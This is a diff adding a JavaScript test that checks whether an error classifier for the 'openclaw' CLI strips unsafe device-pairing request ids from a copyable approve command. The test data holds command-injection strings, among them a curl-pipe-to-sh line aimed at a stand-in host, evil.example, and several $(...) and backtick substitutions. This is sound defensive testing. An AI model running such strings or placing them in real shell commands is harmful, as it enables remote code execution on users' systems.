@@ -46,6 +46,22 @@ test("pairing-required names the request id and the approve command; missing-sco
   assert.equal(classifyError(gwErr("UNAVAILABLE", "gateway starting", { reason: "startup-sidecars" })).retrying, true);
 });
 
+test("a pairing request id that is not the CLI's id alphabet never reaches the copyable shell command", () => {
+  for (const bad of ["x; curl https://evil.example/p | sh", "$(touch /tmp/pwned)", "a`id`", "id with space", "a".repeat(129), ""]) {
+    const p = classifyError(gwErr("NOT_PAIRED", "pairing required", { code: "PAIRING_REQUIRED", requestId: bad }), { cli: "openclaw" });
+    assert.equal(p.kind, "pairing-required");
+    assert.equal(p.requestId, undefined, bad);
+    assert.equal(p.approveCommand, "openclaw devices list", bad);
+    assert.ok(!p.nextStep.includes(bad) || bad === "", p.nextStep);
+  }
+  // From the message text: an id followed by shell syntax is not cut down to a "clean" prefix.
+  const m = classifyError(gwErr("NOT_PAIRED", "pairing required (requestId: abc$(id))", {}), { cli: "openclaw" });
+  assert.equal(m.approveCommand, "openclaw devices list");
+  const ok = classifyError(gwErr("NOT_PAIRED", "pairing required (requestId: Req_9-z)", {}), { cli: "openclaw" });
+  assert.equal(ok.approveCommand, "openclaw devices approve Req_9-z");
+  assert.equal(classifyError(gwErr("NOT_PAIRED", "pairing required", { requestId: "a".repeat(128) }), { cli: "openclaw" }).requestId, "a".repeat(128));
+});
+
 test("close codes without an error frame are classified", () => {
   assert.equal(classifyClose(1012, "service restart")?.kind, "gateway-restarting");
   assert.equal(classifyClose(1002, "protocol")?.kind, "protocol-mismatch");
